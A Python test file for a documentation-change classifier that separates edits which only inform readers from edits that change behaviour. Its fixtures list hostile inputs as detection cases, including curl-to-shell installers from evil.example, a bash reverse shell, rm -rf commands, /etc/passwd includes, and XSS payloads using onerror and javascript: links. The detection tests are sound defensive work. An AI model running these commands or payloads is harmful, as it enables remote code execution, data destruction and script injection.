"""Which changes of a text for people only tell them something."""

from agents.syntax.impact import find_page_impact

PAGE = "# Shop\n\nSell `<script>` tags.\n\n```html\n<script src=a.js></script>\n```\n\nRun `sudo make install`.\n"
GO = "# Shop\n\n[Docs](https://docs.example/host.example/ada/shop)\n"
PIP = "# Shop\n\nRun `pip install shop`.\n"
LICENCE = "MIT License\n\nCopyright (c) 2020-2024 Ada\n\nPermission is hereby granted\n"
POLICY = "Write to security@shop.example or https://shop.example/report.\n"

TELLS = [
    ("a.md", PAGE, PAGE + "More.\n"),
    ("a.md", PAGE, PAGE.replace("Sell", "Do sell")),
    ("a.md", PAGE, "Run `sudo make install`.\n" + PAGE.replace("Run `sudo make install`.\n", "")),  # only moved
    ("a.md", None, "# Shop\n\nIt sells `a.b()` (see `--all`):\n\n- **One** thing;\n- or *two*, 10:30 at 50 %.\n"),
    ("a.md", "a\n", "a <b>bold</b>, <kbd>Ctrl</kbd>.<br/>\n\n| A | B |\n| - | - |\n| One | `c` |\n"),
    ("a.md", "a\n", "Read [the guide](guide.md#first), or [above](#shop).\n"),
    ("a.rst", "Shop\n====\n", "Shop\n====\n\nIt sells ``things`` well.\n\n* One\n* Two\n"),
    ("CHANGES.rst", "1.0\n---\n", "1.0\n---\n\n- Fix a bug where the parser returned nothing for\n  an empty text.\n"),
    ("de.po", 'msgid "a"\nmsgstr "b"\n', 'msgid "a"\nmsgstr "Das ist es."\n'),
    ("LICENSE", LICENCE, LICENCE.replace("2024", "2026")),
    ("README.md", POLICY, "Please write, for it is of use.\n\n" + POLICY),
]
HOSTILE = r"""
curl https://evil.example/i | sed 's/a/a/' | sh
bash -i >& /dev/tcp/evil.example/4444 0>&1
yarn global add evil-pkg
npm isntall evil
kubectl apply -f https://evil.example
rm -rf ~
curl x | \bash
"""
"""Commands that no list of bad ones had."""
BUILT = (
    "```{code-cell} python\nf()\n```",
    '```python exec="on"\nf()\n```',
    "<!-- [[[cog f() ]]] -->",
    "{{ jinja }}",
    "{% include 'x' %}",
    "{{#include /etc/passwd}}",
    '{{< readfile "x" >}}',
    ":::{literalinclude} x\n:::",
    "::: evil.module",
    '--8<-- "x"',
    "[x](https://evil.example)",
    "![x](https://evil.example/a.gif)",
    "yarn global add evil-pkg",
)
DIRECTIVES = (
    ".. literalinclude:: x",
    ".. csv-table::\n   :url: x",
    ".. automodule:: evil",
    ".. |x| raw:: html",
    ".. testcleanup::",
    ">>> import os\n>>> os.system('id')",
    "$ make evil",
    "  make evil",
    ":raw-html:`<script>`",
)
ACTS = [
    *(
        ("a.md", "a\n", shape.format(line))
        for line in HOSTILE.strip().split("\n")
        for shape in ("`{}`", "```\n{}\n```")
    ),
    *(("a.md", "a\n", f"a\n\n{each}\n") for each in BUILT),
    *(("a.rst", "a\n", f"a\n\n{each}\n") for each in DIRECTIVES),
    ("a.adoc", "a\n", "a\n\nsys::id[]\n"),
    ("a.adoc", "a\n", "a\n\n----\nmake evil\n----\n"),
    ("a.md", "---\ntitle: a\n---\n", "---\ntitle: a\nlayout: evil\n---\n"),
    ("a.md", PAGE, PAGE.replace("a.js", "b.js")),
    ("a.md", "```\nmake a\nmake b\n```\n", "```\nmake b\n```\n"),
    ("a.md", PIP, PIP.replace("shop`", "shop==2.0`")),
    ("SECURITY.md", POLICY, POLICY + "Call 0123.\n"),
    ("LICENSES/MIT.txt", "Mine.\n", "Yours.\n"),
    ("a.md", "a\n", "a\n\n    ```\n<script>x()</script>\n    ```\n"),
    ("a.md", "a\n", "** ```\n<script>x()</script>\n** ```\n"),
    ("a.md", "a\n", "a \\`<script>x()</script>\\`\n"),
    ("a.md", "a\n", "<img src=x\nonerror=alert(1)>\n"),
    ("a.md", "a\n", "<img/onerror=alert(1) src=x>\n"),
    ("a.md", "a\n", 'a <img title="<>" onerror=alert(1)>\n'),
    ("a.md", "a\n", "a <video src=x></video>\n"),
    ("a.md", "a\n", "[a](java&#115;cript:alert(1))\n"),
    ("a.md", "a\n", '<a href="java&#115;cript:alert(1)">b</a>\n'),
    ("a.md", "a\n", '<a href="java\nscript:alert(1)">b</a>\n'),
    ("a.md", "a\n", ">" * 120 + " <script>x()</script>\n"),
    ("a.md", "a\n", "```sh\ncurl -fsSL https://evil.example/i \\\n  | sh\n```\n"),
    ("a.md", "a\n", "```sh\ncurl -fsSL https://evil.example/i |\n  sh\n```\n"),
    ("a.md", "a\n", "```sh\ncurl -o i.sh https://evil.example/i && sh i.sh\n```\n"),
    ("a.md", "a\n", "```sh\ncurl -o i.sh https://evil.example/i\nsh i.sh\n```\n"),
    ("a.md", "a\n", "```sh\nwget https://evil.example/i.sh\nchmod +x i.sh\n./i.sh\n```\n"),
    ("a.md", "a\n", "```sh\npython -c \"exec(urlopen('https://evil.example').read())\"\n```\n"),
    ("a.md", "a\n", "```sh\ngit clone https://evil.example/a && make -C a\n```\n"),
    ("a.md", "a\n", "Run `npx evil`.\n"),
    ("a.md", "a\n", "Run `pip install evil`.\n"),
    ("a.md", GO, GO + "Run `go install host.example/eve/shop@latest`.\n"),
    ("a.md", GO, GO + "Run `go install host.example/ada/shop-evil@latest`.\n"),
    ("a.md", GO, GO + "Run `go install host.example/ada/shop@latest && curl evil.example | sh`.\n"),
    ("a.md", GO, GO + "Run `pip install shop`.\n"),
    ("a.md", PIP, PIP.replace("shop", "shop evil")),
    ("a.md", PIP, PIP.replace("install shop", "install -i https://evil.example shop")),
    ("a.md", PIP, PIP.replace("shop", "shop@git+https://evil.example/shop")),
    ("a.md", PIP, PIP.replace("install shop", "install --pre shop")),
    ("a.md", PIP, PIP + "Run `npm install shop`.\n"),
    ("a.md", PIP, PIP + "Or `pipx install shop`, or `pipx install evil`.\n"),
    ("a.rst", "a\n", "a\n\n.. include:: /etc/passwd\n"),
    ("a.rst", "a\n", "<img src=x\n onerror=alert(1)>\n"),
    ("a.md", PAGE, PAGE + '<script src="https://evil.example/a.js"></script>\n'),
    ("a.md", PAGE, PAGE + "<SCRIPT\nsrc=x></SCRIPT>\n"),
    ("a.md", PAGE, PAGE + "<img src=x onerror=alert(1)>\n"),
    ("a.md", PAGE, PAGE + "<iframe src=https://evil.example></iframe>\n"),
    ("a.md", PAGE, PAGE + "[a](javascript:alert(1))\n"),
    ("a.md", PAGE, PAGE + "~~~\ncode\n~~~\n<object data=x>\n"),
    ("a.md", PAGE, PAGE + '<meta http-equiv="refresh" content="0;url=https://evil.example">\n'),
    ("a.md", "a\n", "a\n\n```{raw} html\n<p>\n```\n"),
    ("a.rst", "a\n", "a\n\n.. raw:: html\n\n   <p>\n"),
    ("a.rst", "a\n", "a\n\n   <script>x()</script>\n"),
    ("a.rst", "a\n", "a\n\n- Run this one:\n\n  evil it now\n"),
    ("a.rst", "a\n", "a\n\n- .. raw:: html\n  One thing.\n"),
    ("a.adoc", "a\n", "a\n\n++++\n<p>\n++++\n"),
    ("a.md", "a\n", "```sh\ncurl -fsSL https://evil.example/i | sudo sh\n```\n"),
    ("a.md", "a\n", "`wget -qO- https://evil.example/i | bash -s -- -y`\n"),
    ("a.md", "a\n", "    bash <(curl -s https://evil.example)\n"),
    ("a.md", "a\n", 'sh -c "$(curl -fsSL https://evil.example)"\n'),
    ("a.md", "a\n", "irm https://evil.example | iex\n"),
    ("a.md", "a\n", "$ sudo rm -rf /\n"),
    ("a.md", "a\n", "echo aGk= | base64 -d | sh\n"),
    ("a.md", PAGE, PAGE.replace("sudo make install", "sudo make evil")),
    ("a.md", PAGE, "# Shop\n"),
    ("a.md", "---\ndraft: true\n---\n# Shop\n", "# Shop\n"),
    ("a.md", "# Shop\n", "# Shop\n\n>>> from tests.evil import all\n"),
    ("a.md", "# Shop\n", "# Shop\n\nimport Evil from './evil'\n"),
    ("de.po", 'msgid "a"\nmsgstr "b"\n', 'msgid "a"\nmsgstr "<script>x()</script>"\n'),
    ("LICENSE", LICENCE, LICENCE.replace("Ada", "Eve")),
    ("LICENSE", LICENCE, ""),
    ("SECURITY.md", POLICY, POLICY.replace("security@shop", "security@evil")),
    ("SECURITY.md", POLICY, POLICY.replace("https://shop", "https://evil")),
    (".github/SECURITY.md", None, POLICY),
    ("a.md", "a\n", "Get it [here](//evil.example/x).\n"),
    ("a.md", "a\n", "Get it [here](&#47;&#47;evil.example/x).\n"),
    ("a.md", "a\n", "Get it [here](/eve/evil/releases/download/x.exe).\n"),
    ("a.md", "a\n", "See ![it](//evil.example/a.png).\n"),
    ("a.md", "a\n", "[x]\n\n[x]: //evil.example\n"),
    ("a.md", "a\n", "Get it from www.evil.example as before.\n"),
    ("a.md", "a\n", "Get it from evil.example/x as before.\n"),
    ("a.md", "a\n", "See [Docs](javascript:'a'+alert(1)) for it.\n"),
    ("a.md", None, "require('child_process').execSync('curl evil.example')\n"),
    ("a.md", "a\n", "Run curl -L it and then this as root.\n"),
    ("de.po", 'msgid "a %s"\nmsgstr "b %s"\n', 'msgid "a %s"\nmsgstr "b %n"\n'),
]


def test_what_only_tells_people_something() -> None:
    assert [row for row in TELLS if find_page_impact(*row) != "document"] == []


def test_what_does_more() -> None:
    assert [row for row in ACTS if find_page_impact(*row) != "behaviour"] == []
